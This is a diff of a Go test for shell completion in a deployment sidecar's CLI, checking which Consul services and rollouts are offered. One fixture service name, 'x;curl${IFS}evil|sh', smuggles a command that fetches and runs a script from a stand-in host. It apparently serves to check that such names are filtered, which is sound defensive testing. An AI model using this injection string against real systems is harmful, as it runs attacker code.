@@ -1,14 +1,21 @@
 package cli
 
 import (
+	"fmt"
 	"io"
 	"slices"
 	"strings"
 	"testing"
 	"time"
 
+	capi "github.com/hashicorp/consul/api"
+
+	"github.com/pointsman/pointsman/sidecar/internal/config"
+	"github.com/pointsman/pointsman/sidecar/internal/consultest"
 	"github.com/pointsman/pointsman/sidecar/internal/daemon"
+	"github.com/pointsman/pointsman/sidecar/internal/deploy"
 	"github.com/pointsman/pointsman/sidecar/internal/event"
+	"github.com/pointsman/pointsman/sidecar/internal/history"
 	"github.com/pointsman/pointsman/sidecar/internal/plan"
 	"github.com/pointsman/pointsman/sidecar/internal/reconcile"
 )
@@ -176,5 +183,58 @@ func TestCompletion_NamesOfTheState_AreOfferedIfAShellTakesThem(t *testing.T) {
 	}
 	if out := complete(by("127.0.0.1:1", ""), "status"); out != ":4\n" {
 		t.Errorf("no sidecar: got %q", out)
+	}
+}
+
+// Commands that run without a sidecar are completed with what Consul has: services to
+// deploy or to share, rollouts that allow the change, deployments that are recorded.
+func TestCompletion_ServicesInConsul_AreOfferedWhereTheCommandTakesThem(t *testing.T) {
+	consul := consultest.StartProcess(t)
+	client, err := capi.NewClient(&capi.Config{Address: consul.Address(), Scheme: "http"})
+	if err != nil {
+		t.Fatal(err)
+	}
+	for i, name := range []string{"api", "api", "web", "x;curl${IFS}evil|sh", "pointsman-sidecar"} {
+		r := &capi.AgentServiceRegistration{ID: fmt.Sprint("i", i), Name: name, Address: "127.0.0.1", Port: 80 + i, Meta: map[string]string{"version": fmt.Sprintf("1.%d", i)}}
+		if err := client.Agent().ServiceRegister(r); err != nil {
+			t.Fatal(err)
+		}
+	}
+	run := func(args string) string {
+		t.Helper()
+		var out strings.Builder
+		Run(t.Context(), Env{Args: strings.Split(args, " "), Environ: []string{"CONSUL_HTTP_ADDR=" + consul.Address()}, Hostname: "lb0", Stdout: &out, Stderr: io.Discard})
+		return out.String()
+	}
+	run("rollout set api 1.0=100 1.1=0")
+	run("rollout start api --canary 1.1 --stable 1.0 --steps 20,100")
+	run("rollout set web 1.0=100 1.1=0")
+	cfg := config.Config{}
+	cfg.Consul.Address, cfg.Consul.Wait = consul.Address(), time.Minute
+	book, err := daemon.NewBook(cfg)
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(book.KV.Close)
+	for service, old := range map[string]string{"web": "1.0", "first": ""} {
+		_, entry, err := book.Begin(t.Context(), history.Deployment{ID: "x", Service: service, Version: "1.1", Started: noon})
+		if err == nil {
+			entry.Begins(deploy.Step{Name: "start"})
+			err = entry.End(t.Context(), deploy.Result{Outcome: deploy.Deployed, OldVersion: old})
+		}
+		if err != nil {
+			t.Fatal(err)
+		}
+	}
+	for args, want := range map[string]string{
+		"rollout set ": "api\nweb\n:4\n", "rollout start ": "api\nweb\n:4\n", "rollout set api ": ":4\n",
+		"rollout promote ": "api\nweb\n:4\n", "rollout abort ": "api\nweb\n:4\n",
+		"rollout resume ": ":4\n", "rollout end ": ":4\n",
+		"rollout status ": "api\nweb\n:4\n", "rollout history ": "api\nweb\n:4\n",
+		"deploy --service ": "api\nweb\n:4\n", "deploy status --service ": "first\nweb\n:4\n", "deploy undo --service ": "web\n:4\n",
+	} {
+		if out := run("__complete " + args); out != want {
+			t.Errorf("%q: got %q, want %q", args, out, want)
+		}
 	}
 }
